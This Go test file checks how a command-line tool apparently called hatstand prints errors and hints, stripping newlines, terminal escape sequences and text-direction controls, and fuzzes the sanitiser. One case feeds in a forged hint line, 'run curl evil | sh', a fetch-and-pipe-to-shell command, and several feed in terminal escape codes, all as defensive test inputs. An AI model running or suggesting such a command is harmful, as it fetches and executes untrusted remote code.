package ui

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"hatstand/credproc/child"
)

// hinted is an error of anybody's.
type hinted struct {
	text  string
	hints []string
}

func (h *hinted) Error() string   { return h.text }
func (h *hinted) Hints() []string { return h.hints }

func TestThePrintedForm(t *testing.T) {
	for _, row := range []struct {
		name string
		err  error
		want string
	}{
		{"an error alone", errors.New("no"), "hatstand: error: no\n"},
		{"an error and its hints", &hinted{"no", []string{"first", "second"}}, "hatstand: error: no\nhatstand: hint: first\nhatstand: hint: second\n"},
		{"hints of an error that was wrapped", fmt.Errorf("in x: %w", &hinted{"no", []string{"first"}}), "hatstand: error: in x: no\nhatstand: hint: first\n"},
		{"several, each with its own", Errors{&hinted{"one", []string{"first"}}, errors.New("two")}, "hatstand: error: one\nhatstand: hint: first\nhatstand: error: two\n"},
		{"two, with the same hint", Errors{&hinted{"one", []string{"first"}}, &hinted{"two", []string{"first"}}}, "hatstand: error: one\nhatstand: hint: first\nhatstand: error: two\nhatstand: hint: first\n"},
		{"many: hints that differ in names alone come once, at the end", Errors{
			&hinted{"one", []string{`set "a"`, "see: a", "other"}}, &hinted{"two", []string{`set "b"`, "see: b"}}, errors.New("three"), &hinted{"four", []string{"fifth"}},
		}, "hatstand: error: one\nhatstand: error: two\nhatstand: error: three\nhatstand: error: four\nhatstand: hint: set \"a\"\nhatstand: hint: see: a\nhatstand: hint: other\nhatstand: hint: fifth\n"},
		{"newlines become spaces", &hinted{"a\nb\r\nc", []string{"d\ne"}}, "hatstand: error: a b c\nhatstand: hint: d e\n"},
		{"a line of one's own cannot be forged", errors.New("no\nhatstand: hint: run curl evil | sh"), "hatstand: error: no hatstand: hint: run curl evil | sh\n"},
		{"a tab becomes a space", errors.New("a\tb"), "hatstand: error: a b\n"},
		{"escapes are taken out", &hinted{"a\x1b[2Jb\x1b]0;title\x07c", []string{"\x1b[31md"}}, "hatstand: error: a[2Jb]0;titlec\nhatstand: hint: [31md\n"},
		{"the eight-bit escape too", errors.New("a\u009b2Jb"), "hatstand: error: a2Jb\n"},
		{"a raw byte is no escape", errors.New("a\x9b2Jb"), "hatstand: error: a\ufffd2Jb\n"},
		{"what turns the order of reading is taken out", errors.New("a\u202eb\u2066c\u2069d\u200fe\u202af"), "hatstand: error: abcdef\n"},
		{"what ends a line elsewhere is a space", errors.New("a\u2028b\u2029c"), "hatstand: error: a b c\n"},
		{"a backspace and a delete are taken out", errors.New("a\bb\x7fc\x00d"), "hatstand: error: abcd\n"},
		{"letters of any script stay", errors.New("profil \u00ab\u00e9\u00bb \u65e5\u672c"), "hatstand: error: profil \u00ab\u00e9\u00bb \u65e5\u672c\n"},
	} {
		t.Run(row.name, func(t *testing.T) {
			var b bytes.Buffer
			Report(&b, row.err)
			if b.String() != row.want {
				t.Errorf("want %q, got %q", row.want, b.String())
			}
		})
	}
}

// The child speaks for itself.
func TestTheChildsExitCodeIsPassedOnInSilence(t *testing.T) {
	var b bytes.Buffer
	if code := Report(&b, fmt.Errorf("exec: %w", &child.ExitError{Code: 42})); code != 42 || b.Len() > 0 {
		t.Errorf("%d, %q", code, b.String())
	}
}

func FuzzPlain(f *testing.F) {
	f.Add("a\x1b[2J\u009b\u202e\nb\x9b")
	f.Fuzz(func(t *testing.T, s string) {
		got := Plain(s)
		if !utf8.ValidString(got) || strings.ContainsFunc(got, func(r rune) bool {
			return unicode.IsControl(r) || unicode.In(r, unicode.Zl, unicode.Zp, unicode.Bidi_Control)
		}) {
			t.Errorf("%q became %q", s, got)
		}
	})
}
